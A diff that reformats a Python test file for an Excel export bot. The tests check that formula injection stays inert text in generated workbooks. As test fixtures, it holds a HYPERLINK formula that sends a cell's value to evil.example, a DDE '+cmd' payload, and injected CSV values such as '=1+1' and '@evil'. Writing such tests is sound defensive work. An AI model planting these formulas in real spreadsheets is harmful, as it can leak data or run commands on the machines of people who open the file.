@@ -9,14 +9,15 @@ from openpyxl import load_workbook
 from tests.conftest import OFFICER_ID, BotHarness, text_of
 from tests.test_reports_flow import by_method, download, methods
 
-HEADER = ("ref,company_nib,company_name,commodity,hs_code,destination,form,status,note,"
-          "submitted_at,volume_tonnes,value_usd\n")
+HEADER = (
+    "ref,company_nib,company_name,commodity,hs_code,destination,form,status,note,"
+    "submitted_at,volume_tonnes,value_usd\n"
+)
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&B5,"Lihat lampiran")'
 
 
 def _cells(wb) -> list:  # type: ignore[no-untyped-def]
-    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row
-            if c.value is not None]
+    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
 
 
 async def test_a_strangers_formula_is_text_in_the_stats_workbook(bot: BotHarness) -> None:
@@ -25,8 +26,7 @@ async def test_a_strangers_formula_is_text_in_the_stats_workbook(bot: BotHarness
     calls = await bot.say("/stats 30 excel", user_id=OFFICER_ID)
     doc = by_method(calls, "sendDocument")[0].result["document"]
     wb = load_workbook(io.BytesIO(await download(bot, doc["file_id"])))
-    unanswered = [c for c in _cells(wb) if isinstance(c.value, str)
-                  and c.value.startswith(("=", "+"))]
+    unanswered = [c for c in _cells(wb) if isinstance(c.value, str) and c.value.startswith(("=", "+"))]
     # the gap report groups questions in lower case
     assert {c.value for c in unanswered} == {HOSTILE.lower(), "+cmd|' /c calc'!a0"}
     # a formula would load with data_type "f"; a quote prefix keeps it text when edited
@@ -34,8 +34,7 @@ async def test_a_strangers_formula_is_text_in_the_stats_workbook(bot: BotHarness
     assert not [c for c in _cells(wb) if c.data_type == "f"]
 
 
-async def test_imported_values_are_text_in_the_report_and_labels_are_not_mathtext(
-        bot: BotHarness) -> None:
+async def test_imported_values_are_text_in_the_report_and_labels_are_not_mathtext(bot: BotHarness) -> None:
     rows = [
         "H-1,111,=1+1,Plywood $\\undefinedmacro$,4412,JP,IJEPA,issued,,2026-11-02,10,1000",
         "H-2,222,PT Dua,-2+3,4412,@evil,IJEPA,issued,,2026-11-03,5,500",
